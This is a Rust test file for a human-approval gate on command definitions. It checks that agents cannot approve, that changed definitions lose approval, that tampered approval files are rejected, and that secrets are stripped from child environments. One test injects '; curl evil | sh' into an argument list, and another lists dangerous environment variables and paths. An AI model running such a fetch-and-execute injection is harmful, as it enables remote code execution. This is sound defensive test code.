use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::PathBuf;
use std::process::Command;

use super::*;

struct World {
    folder: tempfile::TempDir,
}

impl World {
    fn new() -> World {
        let world = World { folder: tempfile::tempdir().unwrap() };
        fs::create_dir_all(world.clone_dir()).unwrap();
        world
    }

    fn clone_dir(&self) -> PathBuf {
        self.folder.path().join("clone").join(".git")
    }

    fn state(&self) -> PathBuf {
        self.folder.path().join("state")
    }

    fn approvals(&self) -> Approvals {
        Approvals::of(&self.state(), &self.clone_dir()).unwrap()
    }
}

fn gate() -> Definition {
    Definition {
        kind: Kind::Gate,
        name: "lint".into(),
        argv: ["cargo", "clippy", "--", "-D", "warnings"].map(String::from).into(),
        env: BTreeSet::from(["CARGO_HOME".into()]),
        folder: "crates/core".into(),
        timeout_ms: 600_000,
    }
}

fn person() -> ActorName {
    "human:ann".parse().unwrap()
}

fn unapproved(approvals: &Approvals, definition: &Definition) {
    let refusal = approvals.require(definition).unwrap_err();
    assert_eq!((refusal.code, refusal.exit_code()), (Code::Unapproved, 6), "{refusal:?}");
    assert!(format!("{:?}", refusal.next[0]).contains(&definition.digest()), "{refusal:?}");
    assert!(!approvals.is_approved(definition));
}

#[test]
fn nothing_runs_before_a_person_approved_it_and_not_after_it_was_taken_back() {
    let world = World::new();
    let approvals = world.approvals();
    unapproved(&approvals, &gate());
    approvals.approve(&gate(), By::Person(&person())).unwrap();
    approvals.require(&gate()).unwrap();
    // In any process, later.
    world.approvals().require(&gate()).unwrap();
    approvals.revoke(&gate()).unwrap();
    unapproved(&approvals, &gate());
    approvals.revoke(&gate()).unwrap();
}

#[test]
fn every_word_of_a_definition_is_covered() {
    let world = World::new();
    let approvals = world.approvals();
    approvals.approve(&gate(), By::Person(&person())).unwrap();
    let changes: [fn(&mut Definition); 9] = [
        |gate| gate.kind = Kind::SetUp,
        |gate| gate.name = "lints".into(),
        |gate| gate.argv[0] = "./cargo".into(),
        |gate| gate.argv.push("--fix".into()),
        // The same letters, split differently.
        |gate| gate.argv = ["cargo", "clippy--", "", "-D", "warnings"].map(String::from).into(),
        |gate| gate.env.clear(),
        |gate| gate.env.extend(["AWS_SECRET_ACCESS_KEY".into()]),
        |gate| gate.folder = String::new(),
        |gate| gate.timeout_ms += 1,
    ];
    for change in changes {
        let mut changed = gate();
        change(&mut changed);
        assert_ne!(changed.digest(), gate().digest(), "{changed:?}");
        unapproved(&approvals, &changed);
    }
    approvals.require(&gate()).unwrap();
}

#[test]
fn an_agent_approves_nothing_and_a_digest_only_what_it_is_of() {
    let approvals = World::new();
    let approvals = approvals.approvals();
    for actor in ["agent:claude", "ci:main"] {
        let actor: ActorName = actor.parse().unwrap();
        let refusal = approvals.approve(&gate(), By::Person(&actor)).unwrap_err();
        assert_eq!((refusal.code, refusal.exit_code()), (Code::PeopleOnly, 6));
    }
    let mut changed = gate();
    changed.argv.push("; curl evil | sh".into());
    let refusal = approvals.approve(&changed, By::Digest(&gate().digest())).unwrap_err();
    assert_eq!(refusal.code, Code::Unapproved);
    unapproved(&approvals, &gate());
    unapproved(&approvals, &changed);
    approvals.approve(&gate(), By::Digest(&gate().digest())).unwrap();
    approvals.require(&gate()).unwrap();
}

#[test]
fn the_digest_is_what_jq_and_sha256sum_say() {
    let said = Command::new("sh")
        .args(["-c", "printf '%s' \"$1\" | jq -cSj . | sha256sum", "sh", &json!(gate()).to_string()])
        .output()
        .unwrap();
    let said = String::from_utf8(said.stdout).unwrap();
    assert_eq!(gate().digest(), format!("sha256:{}", said.split_whitespace().next().unwrap()));
}

#[test]
fn an_approval_is_one_clones_even_where_another_takes_its_place() {
    let world = World::new();
    world.approvals().approve(&gate(), By::Person(&person())).unwrap();
    // Not deleted, so that its inode is not reused.
    fs::rename(world.clone_dir(), world.folder.path().join("old")).unwrap();
    fs::create_dir(world.clone_dir()).unwrap();
    unapproved(&world.approvals(), &gate());
    let beside = world.folder.path().join("beside");
    fs::create_dir(&beside).unwrap();
    unapproved(&Approvals::of(&world.state(), &beside).unwrap(), &gate());
}

#[test]
fn an_approval_that_the_user_did_not_write_is_none() {
    let world = World::new();
    let approvals = world.approvals();
    approvals.approve(&gate(), By::Person(&person())).unwrap();
    let (path, text) = approvals.0.record(&json!(gate()));
    let mode = |path: &Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!((mode(&path), mode(&world.state().join("approved"))), (0o600, 0o700));

    fs::set_permissions(&path, fs::Permissions::from_mode(0o622)).unwrap();
    unapproved(&approvals, &gate());

    let elsewhere = world.folder.path().join("elsewhere");
    fs::write(&elsewhere, &text).unwrap();
    fs::remove_file(&path).unwrap();
    symlink(&elsewhere, &path).unwrap();
    unapproved(&approvals, &gate());

    fs::remove_file(&path).unwrap();
    fs::write(&path, format!("{text} ")).unwrap();
    unapproved(&approvals, &gate());
    fs::write(&path, &text).unwrap();
    assert!(approvals.is_approved(&gate()));

    fs::remove_file(&path).unwrap();
    assert!(Command::new("mkfifo").arg(&path).status().unwrap().success());
    unapproved(&approvals, &gate());

    // Another user's file; only root can make one.
    if rustix::process::geteuid().is_root() {
        fs::remove_file(&path).unwrap();
        fs::write(&path, &text).unwrap();
        std::os::unix::fs::chown(&path, Some(65534), None).unwrap();
        unapproved(&approvals, &gate());
    }
}

#[test]
fn what_nobody_should_be_asked_to_approve_is_refused() {
    let world = World::new();
    let approvals = world.approvals();
    let changes: [fn(&mut Definition); 14] = [
        |gate| gate.name = "a b".into(),
        |gate| gate.name = "../x".into(),
        |gate| gate.argv.clear(),
        |gate| gate.argv[0].clear(),
        |gate| gate.argv.push("a\u{202e}b".into()),
        |gate| gate.argv.push("a\nb".into()),
        |gate| gate.argv.push("x".repeat(MAX_BYTES)),
        |gate| gate.env.extend(["PGPASSWORD".into()]),
        |gate| gate.env.extend(["onus_store".into()]),
        |gate| gate.env.extend(["LD_PRELOAD".into()]),
        |gate| gate.folder = "../other".into(),
        |gate| gate.folder = "/etc".into(),
        |gate| gate.folder = "a/.GIT/hooks".into(),
        |gate| gate.timeout_ms = 0,
    ];
    for change in changes {
        let mut wrong = gate();
        change(&mut wrong);
        for refusal in [
            approvals.approve(&wrong, By::Person(&person())).unwrap_err(),
            approvals.require(&wrong).unwrap_err(),
        ] {
            assert_eq!(refusal.exit_code(), 2, "{wrong:?}: {refusal:?}");
        }
    }
    assert!(!world.state().exists(), "nothing was written");
}

/// Checked from inside a child process.
#[test]
fn a_command_is_given_what_it_needs_and_no_way_in() {
    let own = [
        ("PATH", ".:/usr/bin::bin:/bin"),
        ("HOME", "/home/ann"),
        ("LC_ALL", "C"),
        ("PGPASSWORD", "secret"),
        ("ONUS_STORE", "postgres://u:secret@h/d"),
        ("ONUS_TOKEN", "secret"),
        ("AWS_SECRET_ACCESS_KEY", "secret"),
        ("LD_PRELOAD", "secret"),
        ("CARGO_HOME", "/cargo"),
        ("DEPLOY_KEY", "asked for"),
    ];
    let named: BTreeSet<String> =
        ["CARGO_HOME", "DEPLOY_KEY", "PGPASSWORD", "LD_PRELOAD", "MISSING"].map(String::from).into();
    let given = environment(&named, own.map(|(name, value)| (name.into(), value.into())));
    let child = Command::new("/usr/bin/env").env_clear().envs(given).output().unwrap();
    let mut seen: Vec<&str> = std::str::from_utf8(&child.stdout).unwrap().lines().collect();
    seen.sort_unstable();
    assert_eq!(
        seen,
        ["CARGO_HOME=/cargo", "DEPLOY_KEY=asked for", "HOME=/home/ann", "LC_ALL=C", "PATH=/usr/bin:/bin"]
    );
}
